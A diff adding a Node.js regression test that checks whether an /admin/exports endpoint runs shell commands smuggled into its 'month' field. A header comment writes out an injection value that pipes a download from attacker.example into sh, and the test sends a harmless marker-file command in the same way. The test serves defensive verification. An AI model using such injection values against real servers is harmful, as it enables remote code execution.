@@ -1,0 +1,21 @@
+// AS-44QN6ZE8: put `; curl attacker.example | sh` into a file name, branch or host field that the server pastes into a shell command
+// Fails while the code is vulnerable, passes once the fix is in. Start the app, then run it with
+// BASE_URL pointing at it (default http://localhost:3000).
+const { test } = require('node:test');
+const assert = require('node:assert/strict');
+const { existsSync, rmSync } = require('node:fs');
+
+const BASE_URL = process.env.BASE_URL || 'http://localhost:3000';
+const PAYLOAD = "127.0.0.1; touch /tmp/rugged-as-44qn6ze8-marker";
+
+const MARKER = "/tmp/rugged-as-44qn6ze8-marker";
+
+test("AS-44QN6ZE8: POST /admin/exports runs no shell command sent in month", async () => {
+  rmSync(MARKER, { force: true });
+  const attack = await fetch(`${BASE_URL}/admin/exports`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ "month": PAYLOAD }) });
+  await attack.text();
+  // Expected: the command after `;` never runs (`/tmp/rugged-as-44qn6ze8-marker` is not created).
+  const ran = existsSync(MARKER);
+  rmSync(MARKER, { force: true });
+  assert.equal(ran, false, "the injected command ran");
+});
